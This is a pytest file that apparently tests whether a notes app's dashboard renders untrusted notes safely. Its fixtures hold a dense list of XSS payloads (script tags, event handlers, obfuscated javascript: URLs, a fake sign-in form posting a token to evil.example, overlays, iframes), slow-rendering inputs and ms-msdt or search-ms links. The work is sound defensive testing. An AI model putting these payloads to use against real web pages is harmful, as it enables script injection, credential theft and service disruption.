"""A note written by someone else (a shared folder, a synced note, an upload) through
GET /dashboard/page: its raw HTML and Obsidian syntax never become script, a handler, a
style, a load from another server, a form, or markup outside the note's own part of the
page, and no note makes the server spend minutes drawing it."""

from __future__ import annotations

import html
import re
import time
from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient

from mindgraph.config import settings_from_dict
from mindgraph.core import Mindgraph
from mindgraph.dashboard.raw_html import BLOCKS, PHRASING
from mindgraph.serve.rest import create_app

LOCAL = "http://127.0.0.1:8765"

# one payload per line or block, by family: script and handlers, mutation-XSS nests,
# comments and CDATA, URL schemes in every spelling, attribute breakouts, forms and
# overlays, frames and pictures, closing the dashboard's elements, markdown tokens
HOSTILE = """# Hostile

<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>
<svg><script>alert(4)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript>
<template><img src=x onerror=alert(7)></template> <textarea><img src=x onerror=alert(8)></textarea>
<title><img src=x onerror=alert(9)></title> <style>@import url(https://evil.example/x.css)</style>
<!--><img src=x onerror=alert(10)>-->
<![CDATA[<img src=x onerror=alert(12)>]]> </p <img src=x onerror=alert(13)>
<a href="javascript:alert(14)">j</a> <a href="JaVaScRiPt:alert(15)">j</a> <a href="java&#x09;script:alert(16)">j</a>
<a href="&#106;avascript:alert(17)">j</a> <a href=" javascript:alert(18)">j</a> <a href="vbscript:x">j</a>
<a href="data:text/html,<script>alert(19)</script>">j</a> <a href="jav&NewLine;ascript:alert(26)">j</a>
<a href="https://ok.example" onclick="alert(20)">j</a> <a href="https://ok.example" href="javascript:alert(21)">j</a>
<a title='x" onmouseover="alert(22)'>t</a> <a title="x&quot; onmouseover=&quot;alert(23)">t</a>
<a href=https://ok.example/"onmouseover="alert(24)>t</a>
[m](javascript:alert(28)) [m](JAVASCRIPT:alert(29)) [m](java&#x09;script:alert(30)) [m](<java	script:alert(31)>)
[m](data:text/html;base64,PHNjcmlwdD4=) [m](vbscript:msgbox) [m](javascript&colon;alert(33)) <javascript:alert(34)>
![i](javascript:alert(35)) ![i](https://evil.example/x.png) ![i](data:image/svg+xml,<svg/onload=alert(36)>)
<form action="https://evil.example/"><input type="password" name="token"><button>Sign in</button></form>
<input type="checkbox" onclick="alert(37)"> <input type="text" value="token"> <button>OK</button>
<div style="position:fixed;inset:0;background:red">overlay</div> <div class="detail" id="login">c</div>
<iframe srcdoc="<script>alert(38)</script>"></iframe> <iframe src="javascript:alert(39)"></iframe>
<img src="https://evil.example/a.png" alt='x" onerror="alert(40)'> <img src="https://evil.example/a.png" onerror="alert(41)">
<object data="https://evil.example/x"></object> <base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"> <link rel=stylesheet href=https://evil.example/x.css>
</div></div></div></section></main></body></html> <details open ontoggle=alert(43)><summary>s</summary>x</details>

| a | b |
|---|---|
| <img src=x onerror=alert(44)> | [[Evil\\|<b>x</b>]] |
| [[Evil|x" onmouseover="alert(45)]] | <a href="javascript:alert(46)">c</a> |

> [!x-]- <script>alert(48)</script>
> body <img src=x onerror=alert(47)>

- [ ] task <img src=x onerror=alert(49)>
- [x] done <input type=checkbox onfocus=alert(50) autofocus>

Note[^a] and inline^[<img src=x onerror=alert(51)>]

[^a]: <script>alert(52)</script>

$<img src=x onerror=alert(53)>$ $$</math><img src=x onerror=alert(54)>$$ ==<img src=x onerror=alert(55)>==
#tag"><img/onerror=alert(56)> [[Evil#<img src=x onerror=alert(57)>]] [[Evil#^x"onmouseover=alert(58)]]

![[Evil]]

<pre>
<img src=x onerror=alert(60)></pre><script>alert(61)</script>
</pre>

<div>
<ul><li>left open
"""
EVIL = ("# Evil\n\n<div><b>bold <script>alert(99)</script> "
        "<a href='javascript:alert(98)'>x</a>\n\nafter ^x\n")


@pytest.fixture()
def client(tmp_path):
    """The dashboard over a wiki holding Hostile.md and Evil.md (which Hostile embeds)."""
    (tmp_path / "wiki").mkdir()
    (tmp_path / "raw").mkdir()
    (tmp_path / "wiki" / "Hostile.md").write_text(HOSTILE)
    (tmp_path / "wiki" / "Evil.md").write_text(EVIL)
    mg = Mindgraph(settings_from_dict({}, base_dir=tmp_path))
    return TestClient(create_app(mg, None, None), base_url=LOCAL)


def _page(client, name):
    response = client.get("/dashboard/page", params={"page": name})
    assert response.status_code == 200, response.text
    return response


class _Markup(HTMLParser):
    """The elements and attributes a rendered page holds, and how deep each one sits."""

    VOID = {"br", "hr", "wbr", "input", "img"}

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None], int]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.elements.append((tag, dict(attrs), len(self.stack)))
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass


def _markup(text: str) -> _Markup:
    parser = _Markup()
    parser.feed(text)
    parser.close()
    return parser


# what the renderer itself writes besides the allow-list (footnotes, task items, math...)
RENDERER_TAGS = {"section", "input", "img", "th"}
ACTING = re.compile(r"^(on|style$|src|srcdoc$|action$|formaction$|http-equiv$)", re.I)
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|file):")


def _scheme(href: str) -> str:
    # as a browser reads a URL: entities decoded, tabs and newlines dropped, C0 trimmed
    return re.sub(r"[\t\n\r]", "", html.unescape(href)).strip("\x00- ").lower()


def test_a_hostile_note_draws_no_script_handler_style_form_or_foreign_load(client):
    response = _page(client, "Hostile.md")
    page = response.json()["html"]
    markup = _markup(page)
    for tag, attrs, _depth in markup.elements:
        assert tag in PHRASING | BLOCKS | RENDERER_TAGS, tag
        assert not [name for name in attrs if ACTING.match(name)], (tag, attrs)
        assert tag != "input" or attrs.get("type") == "checkbox" and "disabled" in attrs
        assert tag != "img" or set(attrs) <= {"class", "data-src", "alt", "id", "width",
                                              "height"}
        assert not BAD_SCHEME.match(_scheme(attrs.get("href") or "")), attrs
    assert "alert(" in page                 # the payloads are there, as text
    csp = response.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "default-src 'none'" in csp
    assert "'unsafe-inline'" not in csp and "form-action 'none'" in csp


def test_html_a_note_leaves_open_is_closed_before_the_renderers_footnotes(client):
    """The note's unclosed ``<div><ul><li>`` held the footnotes the renderer writes after
    the text: they were drawn inside the note's list item."""
    markup = _markup(_page(client, "Hostile.md").json()["html"])
    footnotes = [(attrs, depth) for tag, attrs, depth in markup.elements
                 if tag == "section" and attrs.get("class") == "footnotes"]
    assert footnotes and footnotes[0][1] == 0
    assert markup.stack == []


@pytest.mark.parametrize("body", [
    "<div " + "<a " * 30_000,                          # a tag that never closes
    "<div>\n" + "<!-- " * 30_000,                      # comments that never close
    "<pre>\n" + "<b title=x " * 20_000 + "\n</pre>",
], ids=["unclosed-tags", "unclosed-comments", "pre-block"])
def test_a_note_of_unclosed_tags_or_comments_is_drawn_in_linear_time(tmp_path, body):
    """A tag or comment that never closes was looked for again from every ``<``: a
    90 kB note cost minutes of the server's CPU per view (quadratic), now a few ms."""
    (tmp_path / "wiki").mkdir()
    (tmp_path / "wiki" / "Slow.md").write_text(body)
    client = TestClient(create_app(Mindgraph(settings_from_dict({}, base_dir=tmp_path)),
                                   None, None), base_url=LOCAL)
    started = time.process_time()
    page = _page(client, "Slow.md").json()["html"]
    assert time.process_time() - started < 10     # generous: two shared cores
    assert "&lt;" in page and "<a" not in page


def test_a_link_opens_only_an_allowed_scheme_others_are_text(tmp_path):
    """``ms-msdt:``, ``search-ms:`` (and any scheme a program registers) can start that
    program from a click: only http, https, mailto and obsidian links are drawn as links,
    with the vault's own links and anchors; any other is its label as text."""
    (tmp_path / "wiki").mkdir()
    (tmp_path / "wiki" / "Other.md").write_text("# Other\n")
    (tmp_path / "wiki" / "Links.md").write_text(
        "# Links\n\n[msdt](ms-msdt:/id%20PCWDiagnostic) [search](search-ms:query=x) "
        "<ms-word:ofe|u|https://evil.example/a.docx> [ref][r] [up](SSH://host)\n\n"
        "[web](https://example.org) [plain](http://example.org) [mail](mailto:a@example.org) "
        "[vault](obsidian://open?vault=v) [page](Other.md) [here](#Links)\n\n"
        "[r]: search-ms:query=y\n")
    client = TestClient(create_app(Mindgraph(settings_from_dict({}, base_dir=tmp_path)),
                                   None, None), base_url=LOCAL)
    page = _page(client, "Links.md").json()["html"]
    hrefs = [attrs["href"] for tag, attrs, _ in _markup(page).elements if tag == "a"]
    assert hrefs == ["https://example.org", "http://example.org", "mailto:a@example.org",
                     "obsidian://open?vault=v", "#page=Other.md", "#Links"]
    assert page.count('class="link-refused"') == 5
    for label in ("msdt", "search", "ms-word:ofe|u|https://evil.example/a.docx", "ref", "up"):
        assert f">{html.escape(label, quote=False)}</span>" in page
